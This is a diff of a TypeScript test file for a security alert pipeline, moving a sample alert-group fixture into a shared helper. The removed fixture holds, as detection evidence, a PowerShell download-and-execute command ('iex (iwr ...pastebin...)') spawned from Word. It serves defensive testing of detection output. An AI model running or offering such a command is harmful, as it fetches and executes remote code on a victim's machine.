@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import type { AlertGroup, DetectionFinding } from '../../lib/alert/index.ts';
+import type { DetectionFinding } from '../../lib/alert/index.ts';
 import { buildFinding } from '../../lib/alert/index.ts';
 import {
   alertSubject,
@@ -10,34 +10,11 @@ import {
   truncate,
 } from '../../lib/pipeline/index.ts';
 import { defaultRule } from '../../lib/rule/index.ts';
+import { sampleGroup } from '../helpers/alerts.ts';
 
 const rule = defaultRule().rule;
 
-function group(overrides: Partial<AlertGroup['key']> = {}, count = 12): AlertGroup {
-  return {
-    key: {
-      host: 'WKS-7',
-      user: 'CORP\\jdoe',
-      process: 'powershell.exe',
-      domain: 'pastebin.com',
-      ...overrides,
-    },
-    tier: 'high',
-    count,
-    firstSeen: Date.parse('2024-03-05T09:14:22.418Z'),
-    lastSeen: Date.parse('2024-03-05T09:29:22.519Z'),
-    evidence: {
-      commandLines: ['powershell.exe -nop -c "iex (iwr https://pastebin.com/raw/x1)"'],
-      parents: ['winword.exe'],
-      processPaths: ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
-      dstIps: ['104.20.67.143'],
-      dstPorts: [443],
-      kinds: ['dns', 'network'],
-      sources: ['sysmon'],
-      provenance: [{ origin: 's3://logs/sysmon/batch.xml.gz', record: 17 }],
-    },
-  };
-}
+const group = sampleGroup;
 
 const parse = (message: string) => JSON.parse(message) as { default: string; email: string };
 
